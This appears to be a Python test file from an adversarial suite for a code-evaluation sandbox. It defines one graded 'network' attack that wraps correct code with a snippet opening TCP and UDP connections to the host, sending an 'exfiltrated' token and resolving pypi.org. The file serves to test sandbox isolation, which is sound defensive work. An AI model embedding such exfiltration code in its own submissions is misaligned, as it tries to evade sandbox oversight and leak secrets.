"""Network: correct code that reaches for a server on the host; only bubblewrap's network
namespace stops it."""

from __future__ import annotations

from tests.adversarial.attacks.kit import (
    GRADED,
    Catalogue,
    Context,
    correct,
    fill,
)

ATTACKS = Catalogue("network")


NETWORK = """\
import socket as _socket

for _host in __ADDRESSES__ + ["localhost"]:
    try:
        with _socket.create_connection((_host, __PORT__), timeout=2) as _conn:
            _conn.sendall(b"exfiltrated: " + __TOKEN__.encode())
        print("CONNECTED to", _host)
    except OSError as _err:
        print("no connection to", _host, type(_err).__name__)
    try:
        with _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM) as _udp:
            _udp.sendto(__TOKEN__.encode(), (_host, __PORT__))
    except OSError as _err:
        print("no datagram to", _host, type(_err).__name__)
try:
    print("resolved", _socket.gethostbyname("pypi.org"))
except OSError as _err:
    print("no name resolution", type(_err).__name__)
print("network attempts done")
"""


@ATTACKS.attack(
    "network",
    15,
    GRADED,
    "correct code that connects to a TCP server on the host (loopback and its other addresses) "
    "and sends data",
    sandbox=True,
)
def _network(ctx: Context) -> str:
    addresses = list(ctx.host_addresses)
    return correct(ctx, fill(NETWORK, addresses=addresses, port=ctx.port, token=ctx.token))
